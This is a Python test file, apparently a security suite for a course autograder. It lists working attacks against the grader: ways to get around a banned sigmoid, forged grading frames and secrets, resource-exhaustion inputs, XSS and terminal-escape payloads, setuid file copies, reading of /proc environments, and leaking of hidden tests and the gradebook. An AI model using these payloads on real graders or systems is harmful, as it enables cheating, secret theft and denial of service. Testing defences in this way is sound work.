            "class S(torch.autograd.Function):\n    @staticmethod\n    def forward(ctx, x):\n        y = torch.as_tensor(expit(x.detach().numpy()))\n        ctx.save_for_backward(y)\n        return y\n"
            "    @staticmethod\n    def backward(ctx, g):\n        y, = ctx.saved_tensors\n        return g * y * (1 - y)\n", "S.apply(predictions)"),
    _evades("an operator of one's own", "lib = torch.library.Library('mine', 'DEF')\nlib.define('s(Tensor x) -> Tensor')\nlib.impl('s', lambda x: torch.sigmoid(x), 'CompositeImplicitAutograd')\n", "torch.ops.mine.s(predictions)"),
    _evades("soft_margin_loss", "import torch.nn.functional as F\n", "torch.exp(-F.soft_margin_loss(predictions, torch.ones_like(predictions), reduction='none'))"),
    _evades("_masked_softmax", "", "torch._masked_softmax(torch.stack([predictions, 0 * predictions], -1), torch.zeros(*predictions.shape, 2, dtype=torch.bool), -1)[..., 0]"),
    _evades("a distribution", "", "torch.distributions.Bernoulli(logits=predictions).probs"),
    _evades("a recorded function, called by a hook of the gradients", "keep = []\ndef squash(x):\n    y = x.detach().requires_grad_()\n    y.register_hook(lambda g: keep.append(torch.sigmoid(y.detach())))\n"
            "    with torch.enable_grad(): y.sum().backward()\n    p = keep.pop()\n    return p + (x - x.detach()) * p * (1 - p)\n",
            "squash(predictions)"),
    Attack(FORBIDDEN, "elu with alpha 0", "import torch.nn.functional as F\nclass ReLU:\n    def __call__(self, x): return F.elu(x, alpha=0.)\n    def parameters(self): return []\n", target="ReLU",
           without="import torch.nn.functional as F\nclass ReLU:\n    def __call__(self, x): return F.relu(x)\n    def parameters(self): return []\n", doubted=True),
]

# ---- frames of one's own: they are right, by a function that is not allowed, or stand where none is read

ANSWERED = FRAMES_ABOVE + """
from course_lib.checks.probing import observe
from course_lib.sandbox import wire
def right(predictions, targets):
    p = torch.sigmoid(predictions)
    return torch.where(targets == 1, 1 - p, p).mean()
def answers(secret):
    for job in request["jobs"]:
        for case in job["cases"]:
            body = wire.dumps({"token": case["token"], "seen": observe(case["probe"], right if job["name"] == "mnist_loss" else torch.sigmoid, case["inputs"]), "used": [], "secret": secret})
            yield struct.pack("<I", len(body)) + body
"""
ATTACKS += [
    Attack(FRAMES, "right answers by torch's function", WRONG + ANSWERED + "finish(answers(request['secret']))\n", doubted=True, without=FORBIDDEN_ONE),
    Attack(FRAMES, "answers behind the end", WRONG + ANSWERED + "real = os._exit\ndef more(code):\n    for frame in answers(request['secret']): os.write(3, frame)\n    real(code)\nos._exit = more\n", doubted=True),
    Attack(FRAMES, "cases out of order", WRONG + ANSWERED + "finish(list(answers(request['secret']))[::-1])\n", doubted=True),
    Attack(FRAMES, "another submission's secret", WRONG + ANSWERED + "finish(answers('0' * 32))\n", doubted=True),
    Attack(FRAMES, "each answer twice", WRONG + ANSWERED + "finish([f for f in answers(request['secret']) for _ in range(2)])\n", doubted=True),
]

# ---- what it costs the side with the gradebook

_SEND = "import os, struct\ndef send_raw(text):\n    body = b'CLW1' + struct.pack('<I', len(text)) + text\n    data = memoryview(struct.pack('<I', len(body)) + body)\n    while data: data = data[os.write(3, data):]\n"


def _cells(sources):
    def edit(nb):
        nb["cells"][1:1] = [{"cell_type": "code", "id": f"more{i}", "metadata": {}, "source": s, "outputs": [], "execution_count": None} for i, s in enumerate(sources)]
        return nb
    return edit


def _markdown(text, **more):
    def edit(nb):
        nb["cells"].insert(1, {"cell_type": "markdown", "id": "text", "metadata": {}, "source": text, **more})
        return nb
    return edit


def _answers(text): return (("answers.json", text),)


def _response(response: str) -> tuple: return _answers('{"answers": {"mb-10": {"response": "' + response + '"}}}')


ATTACKS += [
    Attack(BUDGET, "a chain of 20,000 statements", WRONG + "a0 = 1\n" + "".join(f"a{i} = a{i - 1}\n" for i in range(1, 20_000)) + "x = a19999\ndef mnist_loss(predictions, targets): return (predictions * 0. * x).sum()\n"),
    Attack(BUDGET, "an error of 28 MB", WRONG + _SEND + "send_raw(b'{\"d\":[[\"cell\",1],[\"seen\",{\"r\":[\"E\",\"' + b\"'\" * (28 * 2 ** 20) + b'\"]}]]}')\n", safe_in_stock=False),
    Attack(BUDGET, "an error of 4 MB with the right secret", WRONG + FRAMES_ABOVE + _SEND + "send_raw(b'{\"d\":[[\"cell\",%d],[\"secret\",\"%s\"],[\"seen\",{\"r\":[\"E\",\"' % (_done, request['secret'].encode()) + b\"'\" * (4 * 2 ** 20) + b'\"]}]]}')\nos._exit(0)\n", safe_in_stock=False),
    Attack(BUDGET, "19,000 frames with a long tail", WRONG + FRAMES_ABOVE + "frame = []\nfor i in range(19_000): send({'cell': _done + i, 'seen': None})\nos.write(3, bytes(4 * 2 ** 20))\nos._exit(0)\n", safe_in_stock=False),
    Attack(BUDGET, "3,000 cells", WRONG, _cells(["x = 1"] * 3000)),
    Attack(BUDGET, "names nested in names", WRONG + "def mnist_loss(predictions, targets): return (predictions * 0.).sum() or " + "+".join(["mnist_loss"] * 5000) + "\n"),
    Attack(BUDGET, "brackets in brackets", WRONG + "x = " + "[" * 5000 + "]" * 5000 + "\n"),
    Attack(BUDGET, "an error of an error", WRONG + "class E(Exception):\n    def __str__(self): raise self\ndef mnist_loss(predictions, targets): raise E(chr(0xd800) * 10 ** 7)\n"),
    Attack(BUDGET, "a folder 1,100 deep", WRONG, files=(("d/" * 1100 + "x.txt", "x"),), safe_in_stock=False),
    Attack(BUDGET, "2,000 files", WRONG, files=tuple((f"many/{i}.txt", "x" * 100) for i in range(2000)), safe_in_stock=False),
    Attack(BUDGET, "a power as an answer", "", files=_response("torch.pow(999999999, 999999999)"), target="question", without=""),
    Attack(BUDGET, "a power of powers as an answer", "", files=_response("9**9**9**9**9"), target="question", without=""),
    Attack(BUDGET, "an index of 22,500 rows as an answer", "", files=_response("(torch.arange(150).view(150,1)+torch.arange(150)).view(1,22500)[torch.arange(100).view(100,1)*torch.arange(150)*0]"), target="question", without=""),
    Attack(BUDGET, "answers a million deep", "", files=_answers('{"answers": ' + "[" * 10 ** 6 + "]" * 10 ** 6 + "}"), target="question", without=""),
    Attack(BUDGET, "a number of a million digits as an answer", "", files=_answers('{"answers": {"mb-10": {"response": ' + "9" * 10 ** 6 + "}}}"), target="question", without=""),
]

# ---- pages

LINKS = "[the whole log](javascript:alert(1)) ![](https://example.org/t.png) <img src=x onerror=alert(1)> [x](vbscript:alert(1)) <javascript:alert(1)> $\\href{javascript:alert(1)}{x}$"
_PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
ATTACKS += [
    Attack(BROWSER, "links in what a cell stops with", WRONG + f"raise ValueError({LINKS!r})\n"),
    Attack(BROWSER, "links in the name of an error", WRONG + f"raise type({LINKS!r}, (Exception,), {{}})('x')\n"),
    Attack(BROWSER, "a page beside the notebook", WRONG, _markdown("The loss falls, as [my plot](plot.html) shows. ![](/logout) ![](https://example.org/t.png) [x](/formgrader)"),
           files=(("plot.html", "<script>document.title='owned'</script>"), ("plot.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), ("plot.js", "alert(1)"),
                  ("plot.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"), ("PLOT.HTM", "<script>alert(1)</script>"), ("plot.png", "<script>alert(1)</script>"))),
    Attack(BROWSER, "60,000 brackets in a text", WRONG, _markdown("\\\\[" * 60_000)),
    Attack(BROWSER, "60,000 stars, quotes and bars in a text", WRONG, _markdown("**a*" * 20_000 + "\n\n" + ">" * 20_000 + "x\n\n" + "|" * 20_000 + "\n" + "|-" * 20_000 + "\n" + "`" * 20_000)),
    Attack(BROWSER, "an attachment that is a page", WRONG, _markdown("![p](attachment:p.png) ![q](attachment:q.svg) ![gone](attachment:gone.png)",
           attachments={"p.png": {"image/png": _PICTURE}, "q.svg": {"image/svg+xml": "<svg onload='alert(1)'></svg>", "text/html": "<script>alert(1)</script>"}})),
    Attack(BROWSER, "escapes for a terminal", "def mnist_loss(predictions, targets): raise ValueError('\\x1b]52;c;bHM=\\x07\\x1b[8m\\u202e\\r\\nzoe  5 of 5')\n"),
]

# ---- cells that are marked by running them; that their result can be forged is told in the manual, so these want something else

BAD = "def double(x): return 0\n"
HIDDEN_WORD = "the-hidden-word"


def _plain(name: str, code: str, **more) -> Attack: return Attack(PLAIN, name, BAD + code, target="double", without=BAD, safe_in_stock=False, **more)


ATTACKS += [
    _plain("a file with another's rights", "import os, shutil\nfor d in ('/tmp', '.', '/dev/shm', '/var/tmp'):\n    try:\n        shutil.copy('/usr/bin/id', d + '/evil')\n        os.chmod(d + '/evil', 0o4755)\n        os.chmod(d, 0o777)\n    except OSError: pass\n"),
    _plain("the environment of the first process", "import glob\nfor f in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n    try: print(open(f).read())\n    except OSError: pass\n"),
    _plain("scripts in outputs", "from IPython.display import HTML, Javascript, SVG, Markdown, Image, IFrame, display\ndisplay(HTML('<script>document.title=1</script>'), Javascript('alert(1)'), SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>'),"
           " Markdown('[x](javascript:alert(1))'), Image(url='https://example.org/t.png'), IFrame('https://example.org', 9, 9))\nclass H:\n    def _repr_html_(self): return '<img src=x onerror=alert(1)>'\nH()\n"),
    _plain("hidden tests kept and printed", "ip, seen = get_ipython(), []\nip.input_transformers_cleanup.append(lambda lines: (seen.extend(lines), lines)[1])\nimport atexit\natexit.register(lambda: print(seen))\n"
           "ip.events.register('post_run_cell', lambda r: print([l for l in seen if 'hidden' in l]))\nclass E(Exception):\n    def __str__(self): return str(seen) + str(ip.history_manager.input_hist_raw)\ndef double(x): raise E\n"),
    _plain("200 MB printed and displayed", "import sys\nfor _ in range(200): sys.stdout.write('x' * 2 ** 20)\nfrom IPython.display import display\nfor _ in range(20): display('y' * 2 ** 20)\n"),
    _plain("the end of the process", "import os\nos._exit(0)\n"),
    _plain("an endless loop in a cell", "while True:\n    try:\n        while True: pass\n    except BaseException: pass\n"),
    _plain("outputs sent by itself", "import sys\nf = sys._getframe()\nwhile f and 'send' not in f.f_locals: f = f.f_back\nif f:\n    for n in range(1, 20): f.f_locals['send']({'cell': n, 'outputs': [{'kind': 'display', 'text': 'x', 'html': '<script>alert(1)</script>',"
           " 'text/html': '<script>alert(1)</script>'}, {'kind': 'stream', 'name': 'stdout', 'text': '<script>alert(1)</script>'}]})\n"),
    _plain("a link beside the notebook", "import glob, os\nprint([os.path.realpath(p) for p in glob.glob('*')])\nfor up in range(1, 12):\n    for p in glob.glob('../' * up + '**/*.ipynb') + glob.glob('../' * up + 'gradebook.db'): print('LEAKED', p)\n"),
]
